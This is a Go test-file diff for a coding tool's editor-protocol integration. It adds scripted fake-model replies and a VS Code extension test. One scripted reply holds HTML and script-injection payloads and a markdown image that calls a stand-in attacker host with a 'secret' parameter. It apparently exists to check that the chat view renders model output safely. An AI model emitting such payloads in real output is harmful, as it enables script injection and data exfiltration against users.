@@ -76,20 +76,13 @@ func call1(name string, args any) [][2]string {
 	return [][2]string{{name, string(b)}}
 }
 
-// TestACPWithOfficialClient runs a whole session of the real ptk acp with
-// the official ACP TypeScript SDK as the editor (acp/acptest's
-// client.test.mjs, under node --test): initialize, a new session with an
-// MCP server, a streamed answer with a tool call, a permission request
-// answered each way, edits that land in the editor's buffers, a cancel
-// while a command runs in the editor's terminal, a load after a restart.
-func TestACPWithOfficialClient(t *testing.T) {
-	if testing.Short() {
-		t.Skip("builds ptk and runs node")
-	}
-	script := acptest.Client(t)
-	node := acptest.SDK.Node(t)
+// acpTestEnv builds ptk and starts the scripted model of the ACP
+// end-to-end tests, in a new folder to work in, and returns the
+// environment the node tests read: PTK_BIN, PTK_TEST_WORKSPACE,
+// PTK_TEST_BASE_URL, PTK_TEST_TRACE_DB.
+func acpTestEnv(t *testing.T) (env []string, workspace string) {
+	t.Helper()
 	bin := ptkBinary(t)
-
 	dir := t.TempDir()
 	for name, content := range map[string]string{
 		"package.json": "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\"\n}\n",
@@ -102,7 +95,7 @@ func TestACPWithOfficialClient(t *testing.T) {
 	model := &promptModel{t: t, scripts: map[string][]fakeReply{
 		"read package.json": {
 			{content: "Let me look at it.", calls: call1("read_file", map[string]string{"path": "package.json"})},
-			{content: "The package is named demo, version 1.0.0."},
+			{content: "The package is named **demo**, version `1.0.0`."},
 		},
 		"edit main.go": {
 			{calls: call1("edit_file", map[string]string{"path": "main.go", "old_string": `println("hi")`, "new_string": `println("hello")`})},
@@ -116,8 +109,18 @@ func TestACPWithOfficialClient(t *testing.T) {
 			{calls: call1("bash", map[string]string{"command": "sleep 30"})},
 			{content: "Slept."},
 		},
+		"plan it": {
+			{calls: call1("update_plan", map[string]any{"entries": []map[string]string{
+				{"content": "Read package.json", "status": "completed"},
+				{"content": "Rename the package", "status": "in_progress"},
+				{"content": "Run the tests", "status": "pending"}}})},
+			{content: "I have a plan."},
+		},
+		"show html": {{content: "Here is **bold**, `code` and a list:\n\n- <img src=x onerror=\"document.title='pwned'\">\n- <script>document.title='pwned'</script>\n\n" +
+			"![exfil](https://evil.example/?q=secret) and [click](javascript:alert(1)) and [docs](https://example.com/docs)."}},
+		"fail": {{status: 500, body: `{"error":{"message":"the model is overloaded"}}`}},
 	}, answer: func(msgs []map[string]any) (fakeReply, bool) {
-		// After the restart, the loaded conversation must reach the model.
+		// After a restart, the loaded conversation must reach the model.
 		for _, msg := range msgs {
 			if msg["role"] == "user" && msg["content"] == "read package.json" {
 				return fakeReply{content: "You asked me to read package.json."}, true
@@ -126,27 +129,75 @@ func TestACPWithOfficialClient(t *testing.T) {
 		return fakeReply{content: "I do not know."}, true
 	}}
 	srv := httptest.NewServer(model)
-	defer srv.Close()
-
-	cmd := exec.Command(node, "--test", "--test-reporter=spec", script)
-	cmd.Dir = filepath.Dir(script)
-	cmd.Env = append(os.Environ(),
+	t.Cleanup(srv.Close)
+	return append(os.Environ(),
 		"PTK_BIN="+bin, "PTK_TEST_WORKSPACE="+dir, "PTK_TEST_BASE_URL="+srv.URL+"/v1",
 		"PTK_TEST_TRACE_DB="+filepath.Join(t.TempDir(), "traces.db"),
 		"XDG_CONFIG_HOME="+t.TempDir(), // no policy or MCP file of the user's
-	)
+	), dir
+}
+
+// TestACPWithOfficialClient runs a whole session of the real ptk acp with
+// the official ACP TypeScript SDK as the editor (acp/acptest's
+// client.test.mjs, under node --test): initialize, a new session with an
+// MCP server, a streamed answer with a tool call, a permission request
+// answered each way, edits that land in the editor's buffers, a cancel
+// while a command runs in the editor's terminal, a load after a restart.
+func TestACPWithOfficialClient(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds ptk and runs node")
+	}
+	script := acptest.Client(t)
+	node := acptest.SDK.Node(t)
+	env, dir := acpTestEnv(t)
+	cmd := exec.Command(node, "--test", "--test-reporter=spec", script)
+	cmd.Dir = filepath.Dir(script)
+	cmd.Env = env
 	out, err := cmd.CombinedOutput()
 	if err != nil {
 		t.Fatalf("node --test client.test.mjs: %v\n%s", err, out)
 	}
 	t.Logf("node --test client.test.mjs:\n%s", out)
-	if !strings.Contains(string(out), "pass 6") && !strings.Contains(string(out), "ℹ pass") {
-		t.Errorf("the client's tests did not run:\n%s", out)
+	if !strings.Contains(string(out), "pass 6") {
+		t.Errorf("the client's tests did not all run:\n%s", out)
 	}
 	if b, _ := os.ReadFile(filepath.Join(dir, "main.go")); !strings.Contains(string(b), `println("hi")`) {
 		t.Errorf("the disk changed; the edit was the editor's: %q", b)
 	}
 	if _, err := os.Stat(filepath.Join(dir, "notes.md")); err == nil {
 		t.Error("notes.md is on the disk; it was the editor's")
+	}
+}
+
+// TestVSCodeExtension runs the VS Code extension's tests (editors/vscode,
+// node --test): its ACP client and view-model against the real ptk acp,
+// and its chat page in a real headless Chromium, fed the states the
+// view-model posted, with screenshots in $PTK_ARTIFACTS. The extension must
+// be built first (npm ci and npm run build in editors/vscode, as .ci/run
+// does); without it the test skips, or fails under
+// PTK_TEST_VSCODE_REQUIRED=1.
+func TestVSCodeExtension(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds ptk and runs node")
+	}
+	ext, _ := filepath.Abs("../../editors/vscode")
+	if _, err := os.Stat(filepath.Join(ext, "dist", "lib.mjs")); err != nil {
+		if os.Getenv("PTK_TEST_VSCODE_REQUIRED") == "1" {
+			t.Fatalf("the extension is not built (%v): npm ci && npm run build in editors/vscode", err)
+		}
+		t.Skip("the extension is not built: npm ci && npm run build in editors/vscode")
+	}
+	node := acptest.SDK.Node(t)
+	env, _ := acpTestEnv(t)
+	cmd := exec.Command(node, "--test", "--test-reporter=spec", "test/")
+	cmd.Dir = ext
+	cmd.Env = env
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("node --test (editors/vscode): %v\n%s", err, out)
+	}
+	t.Logf("node --test (editors/vscode):\n%s", out)
+	if strings.Contains(string(out), "ℹ pass 0") || !strings.Contains(string(out), "ℹ fail 0") {
+		t.Errorf("the extension's tests did not run:\n%s", out)
 	}
 }
